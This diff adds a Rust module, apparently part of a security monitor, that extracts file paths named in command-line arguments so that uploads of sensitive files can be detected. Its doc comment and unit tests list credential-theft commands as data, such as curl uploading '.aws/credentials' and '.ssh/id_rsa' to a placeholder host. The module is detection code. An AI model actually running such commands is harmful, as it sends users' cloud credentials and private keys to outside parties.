@@ -1,0 +1,73 @@
+//! Files that a command line names.
+//!
+//! `curl -T ~/.aws/credentials`, `-F file=@x`, `--data-binary @x`, `--file=x`, `if=x`: the command itself says what it
+//! reads, so no open event is needed (`evidence: argv`). Relative names are resolved against the working directory.
+
+use crate::model::ExecFacts;
+
+/// Paths looked at in one command line at most.
+const MAX_PATHS: usize = 256;
+
+/// Calls `found` with every absolute path that an argument may mean.
+pub fn paths(facts: &ExecFacts, mut found: impl FnMut(&[u8])) {
+    let mut full = Vec::new();
+    let candidates = facts.args.iter().skip(1).flat_map(|arg| spellings(arg)).take(MAX_PATHS);
+    for path in candidates {
+        if path.starts_with('/') {
+            found(path.as_bytes());
+        } else if let Some(cwd) = &facts.cwd {
+            full.clear();
+            full.extend_from_slice(cwd.as_bytes());
+            full.push(b'/');
+            full.extend_from_slice(path.strip_prefix("./").unwrap_or(path).as_bytes());
+            found(&full);
+        }
+    }
+}
+
+/// The ways one argument may hold a path: itself, after `@`, after `=`, after `=@`, as a `file:` URL. URLs of other kinds hold none.
+fn spellings(arg: &str) -> impl Iterator<Item = &str> {
+    let whole = arg.strip_prefix("file://").unwrap_or(arg);
+    let after_at = arg.strip_prefix('@');
+    let value = arg.split_once('=').map(|(_, value)| value.trim_start_matches(['@', '<']));
+    let value = value.map(|value| value.strip_prefix("file://").unwrap_or(value));
+    let value = value.map(|value| value.split_once(';').map_or(value, |(path, _)| path));
+    let plausible = |path: &&str| !path.is_empty() && path.len() <= 4096 && !path.starts_with('-') && !path.contains("://");
+    [Some(whole), after_at, value].into_iter().flatten().filter(plausible)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn named(args: &[&str]) -> Vec<String> {
+        let facts = ExecFacts {
+            args: args.iter().map(|arg| Box::from(*arg)).collect(),
+            cwd: Some("/Users/a".into()),
+            ..ExecFacts::default()
+        };
+        let mut all = Vec::new();
+        paths(&facts, |path| all.push(String::from_utf8_lossy(path).into_owned()));
+        all
+    }
+
+    #[test]
+    fn finds_paths_in_the_usual_upload_forms() {
+        let table: [(&[&str], &str); 6] = [
+            (&["curl", "-T", ".aws/credentials", "https://x.test/"], "/Users/a/.aws/credentials"),
+            (&["curl", "-F", "file=@/Users/a/.ssh/id_rsa;type=text/plain", "https://x.test/"], "/Users/a/.ssh/id_rsa"),
+            (&["curl", "--data-binary", "@/tmp/x", "https://x.test/"], "/tmp/x"),
+            (&["aws", "s3api", "put-object", "--body=./x"], "/Users/a/x"),
+            (&["dd", "if=/Users/a/x"], "/Users/a/x"),
+            (&["az", "upload", "file:///Users/a/x"], "/Users/a/x"),
+        ];
+        for (args, path) in table {
+            assert!(named(args).iter().any(|found| found == path), "{args:?} gave {:?}", named(args));
+        }
+    }
+
+    #[test]
+    fn urls_and_options_are_no_paths() {
+        assert_eq!(named(&["curl", "--silent", "https://content.dropboxapi.com/2/files/upload"]), [] as [&str; 0]);
+    }
+}
